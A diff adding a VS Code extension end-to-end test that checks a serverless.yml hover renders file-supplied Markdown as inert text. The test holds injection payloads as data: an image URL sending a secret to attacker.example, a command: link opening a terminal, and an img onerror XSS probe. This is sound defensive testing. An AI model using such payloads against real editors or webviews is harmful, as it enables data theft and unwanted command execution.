@@ -334,6 +334,32 @@ describe('Crossover in a real VS Code', { concurrency: false }, () => {
     await page.keyboard.press('Escape');
   });
 
+  test('a hover shows Markdown from the file as text: no image, no link, no HTML from function names or a ${file()} value', async () => {
+    const { page } = session;
+    await runCommand(page, 'View: Close All Editors');
+    await openFile(page, 'markdown/serverless.yml');
+    await waitFor('the cost CodeLens above the functions', async () => (await codeLensTexts(page)).find((t) => /on Lambda/.test(t)));
+    await hoverAt(page, 10, 15); // memorySize: ${file(./values.json):memory}, inherited by both functions
+    const text = await waitFor('the cost hover on memorySize', async () => {
+      const shown = await hoverText(page);
+      return /Memory 128 MB/.test(shown) && /inherited by 2 functions/.test(shown) && shown;
+    });
+    // What the file says is shown as written...
+    assert.ok(text.includes('![x](https://attacker.example/?k=SECRET)'), text);
+    assert.ok(text.includes('[c](command:workbench.action.terminal.new) <img src=x onerror=alert(1)>'), text);
+    // ...and nothing in the hover's DOM was built from it: no image, no link but our own "Edit usage assumptions".
+    const dom = await page.locator('.monaco-hover:not(.hidden)').first().evaluate((hover) => ({
+      images: hover.querySelectorAll('img').length,
+      links: [...hover.querySelectorAll('a')].map((a) => ({ text: a.textContent.trim(), attributes: [...a.attributes].map((x) => `${x.name}=${x.value}`).join(' ') })),
+    }));
+    await shot('13-markdown-hover');
+    await page.keyboard.press('Escape');
+    assert.equal(dom.images, 0, 'no <img> in the hover');
+    assert.ok(dom.links.some((l) => l.text === 'Edit usage assumptions'), JSON.stringify(dom.links));
+    const foreign = dom.links.filter((l) => l.text !== 'Edit usage assumptions' && (/attacker|workbench\.action|onerror|SECRET/.test(l.attributes) || ['x', 'y', 'm', 'c'].includes(l.text)));
+    assert.deepEqual(foreign, [], 'no <a> whose target or label comes from the file');
+  });
+
   test('CDK: a diagnostic, a hover and a CodeLens in a TypeScript CDK stack', async () => {
     const { page } = session;
     await runCommand(page, 'View: Close All Editors');
